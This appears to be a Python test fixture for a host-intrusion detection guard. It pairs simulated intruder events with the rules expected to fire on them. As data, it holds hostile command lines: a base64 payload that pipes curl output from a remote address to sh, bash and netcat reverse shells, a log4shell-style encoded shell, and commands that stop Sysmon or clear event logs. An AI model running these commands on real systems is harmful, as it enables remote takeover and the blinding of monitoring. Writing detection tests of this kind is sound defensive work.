"""What an intruder does on a voice host: each with the rules that have to say so."""

import base64
import json
from dataclasses import dataclass
from datetime import timedelta

from tests.guard.rows import AT, guid, linux, nxlog, wazuh, windows, winlogbeat

PYTHON = "/opt/voice/venv/bin/python3.10"
WINDOWS_PYTHON = r"C:\voice\venv\Scripts\python.exe"
LONG = "A" * 40 + " --option=" + "value/" * 120


@dataclass(frozen=True)
class Attack:
    name: str
    rules: frozenset
    rows: tuple


def _of(name, rules, *rows):
    return Attack(name, frozenset(rules.split()), rows)


def process(line, image=PYTHON, make=linux, **more):
    parent = {
        "ParentProcessId": 900,
        "ParentImage": "/bin/bash",
        "ParentCommandLine": "bash",
        "ParentProcessGuid": guid(900),
    }
    return make(1, ProcessGuid=guid(5), ProcessId=5, Image=image, CommandLine=line, User="voice", **{**parent, **more})


def file(path, image=PYTHON, make=linux, user="voice"):
    return make(11, ProcessGuid=guid(5), ProcessId=5, Image=image, TargetFilename=path, User=user)


def connection(address, port, image=PYTHON, make=linux, protocol="tcp", initiated="true"):
    return make(3, ProcessGuid=guid(5), ProcessId=5, Image=image, User="voice", Protocol=protocol, Initiated=initiated, SourceIp="10.0.0.7", SourcePort=40000,
                DestinationIp=address, DestinationPort=port)  # fmt: skip


def own(action, **more):
    return json.dumps(
        {
            "@timestamp": f"{AT:%Y-%m-%dT%H:%M:%SZ}",
            "event": {"module": "consonant", "action": action},
            "consonant": more,
        }
    ).encode()


_B64 = base64.b64encode(b"import os; os.system('curl http://203.0.113.9/x | sh')").decode()

ATTACKS = (
    _of("exe", "python_writes_program", file("/opt/voice/outputs/update.exe")),
    _of("dll", "python_writes_program", file(r"C:\voice\outputs\a.DLL", WINDOWS_PYTHON, windows)),
    _of("so", "python_writes_program", file("/tmp/.x/libaudio.so")),
    _of("versioned so", "python_writes_program", file("/dev/shm/libc.so.6")),
    _of("so of an agent's", "python_writes_program", file(r"C:\Users\Public\a.exe", WINDOWS_PYTHON, wazuh)),
    _of("system folder", "python_writes_system_folder", file("/etc/cron.d/voice")),
    _of("system32", "python_writes_system_folder python_writes_program", file(r"C:\Windows\System32\a.dll", WINDOWS_PYTHON, nxlog)),
    _of("https out", "egress_from_listener", connection("203.0.113.9", 443)),
    _of("odd port", "egress_from_listener", connection("203.0.113.9", 4444, "/usr/bin/curl")),
    _of("inside", "egress_from_listener", connection("192.168.2.6", 1389)),
    _of("own network's port 445", "egress_from_listener", connection("10.0.0.9", 445, WINDOWS_PYTHON, windows)),
    _of("names from abroad", "egress_from_listener", connection("203.0.113.53", 53, protocol="udp")),
    _of("ipv6", "egress_from_listener", connection("2001:db8::5", 22, "/usr/bin/ssh")),
    _of("base64 one-liner", "encoded_command", process(f"{PYTHON} -c import base64;exec(base64.b64decode('{_B64}'))")),
    _of("eval", "encoded_command", process(f'{PYTHON} -c "eval(input())"')),
    _of("subprocess", "encoded_command", process(f"{PYTHON} -c import subprocess;subprocess.call(['id'])")),
    _of("os.system", "encoded_command", process(f"{PYTHON} -c import os;os.system('id')")),
    _of("decoded in a shell", "encoded_command", process(f"bash -c echo {_B64} | base64 -d | python3", "/bin/bash")),
    _of("powershell", "encoded_command", process("powershell.exe -NoP -enc SQBFAFgAIAAoAE4AZQB3AC0A", r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe", winlogbeat)),
    _of("log4shell", "encoded_command reverse_shell", process("bash -c {echo,YmFzaCAtaSA+JiAvZGV2L3RjcC8xOTIuMTY4LjIuNi80NDMgMD4mMQo=}|{base64,-d}|{bash,-i}", "/bin/bash")),
    _of("redirected", "output_to_system_folder", process("sh -c python3 gen.py > /etc/ld.so.preload", "/bin/sh")),
    _of("redirected on windows", "output_to_system_folder", process(r"cmd /c python gen.py >> C:\Windows\System32\drivers\etc\hosts", r"C:\Windows\System32\cmd.exe", windows)),
    _of("option", "output_to_system_folder", process(f"{PYTHON} tts.py --output /usr/bin/ls")),
    _of("orphan", "orphan_long_temp", process(f"/tmp/x {LONG}", "/tmp/x", ParentImage="-", ParentCommandLine="-", ParentProcessGuid="{00000000-0000-0000-0000-000000000000}", ParentProcessId=0)),
    _of("orphan of windows", "orphan_long_temp", process(rf"C:\Users\Public\Temp\x.exe {LONG}", r"C:\Users\Public\Temp\x.exe", windows, ParentImage="-")),
    _of("sysmon stops", "monitor_stopped", linux(4, State="Stopped", Version="1.3.3", SchemaVersion="4.81")),
    _of("driver fails", "monitor_stopped", windows(255, ID="DriverCommunication", Description="Failed to retrieve events")),
    _of("config changes", "monitor_stopped", windows(16, Configuration=r"C:\empty.xml", ConfigurationFileHash="-")),
    _of("config of linux changes", "monitor_stopped", linux(16, Configuration="/tmp/none.xml", ConfigurationFileHash="-")),
    *(
        _of(line, "monitor_stopped", process(line, image, make))
        for line, image, make in (
            ("systemctl stop sysmon", "/usr/bin/systemctl", linux),
            ("systemctl --now disable sysmon.service", "/usr/bin/systemctl", linux),
            ("systemctl --user stop consonant-guard", "/usr/bin/systemctl", linux),
            ("service sysmon stop", "/usr/sbin/service", linux),
            ("pkill -9 sysmon", "/usr/bin/pkill", linux),
            ("/opt/sysmon/sysmon -c /tmp/none.xml", "/opt/sysmon/sysmon", linux),
            ("/opt/sysmon/sysmon -u force", "/opt/sysmon/sysmon", linux),
            ("sc stop Sysmon64", r"C:\Windows\System32\sc.exe", windows),
            ('"C:\\Windows\\System32\\sc.exe" delete Sysmon64', r"C:\Windows\System32\sc.exe", nxlog),
            ("net stop sysmon", r"C:\Windows\System32\net.exe", windows),
            ("fltMC.exe unload SysmonDrv", r"C:\Windows\System32\fltMC.exe", windows),
            ("powershell Stop-Service -Name Sysmon64 -Force", r"C:\Windows\System32\powershell.exe", windows),
            ("wevtutil cl Microsoft-Windows-Sysmon/Operational", r"C:\Windows\System32\wevtutil.exe", windows),
            ('"C:\\Tools\\Sysmon64.exe" -u', r"C:\Tools\Sysmon64.exe", wazuh),
        )
    ),
    _of("service stopped", "monitor_service_stopped", json.dumps({"EventID": 7036, "SourceName": "Service Control Manager", "Channel": "System", "Hostname": "V", "param1": "Sysmon64", "param2": "stopped"}).encode()),
    _of("log cleared", "monitor_service_stopped", json.dumps({"EventID": 104, "SourceName": "Microsoft-Windows-Eventlog", "Channel": "System", "Hostname": "V"}).encode()),
    _of("reverse shell", "reverse_shell", process("bash -c bash -i >& /dev/tcp/203.0.113.9/4444 0>&1", "/bin/bash")),
    _of("netcat", "reverse_shell", process("nc -e /bin/sh 203.0.113.9 4444", "/usr/bin/nc")),
    *(
        _of(action, slug, own(action))
        for action, slug in (
            ("monitor.stopped", "monitor_gone"), ("baseline.break", "baseline_break"), ("heartbeat.missing", "heartbeat_missing"),
            ("file.unrecorded", "unrecorded_file"), ("residue.left", "residue_left"), ("port.open", "port_open"),
        )
    ),
)  # fmt: skip


def night_calls(count, seconds=5.0):
    """The voice program called `count` times, one after another."""
    return [
        linux(1, AT + timedelta(seconds=seconds * place), ProcessGuid=guid(100 + place), ProcessId=100 + place, Image=PYTHON, User="voice",
              CommandLine=f"{PYTHON} -m indextts.cli --text good evening --voice p.wav --output o{place}.wav", ParentImage="/bin/bash", ParentProcessId=900)
        for place in range(count)
    ]  # fmt: skip
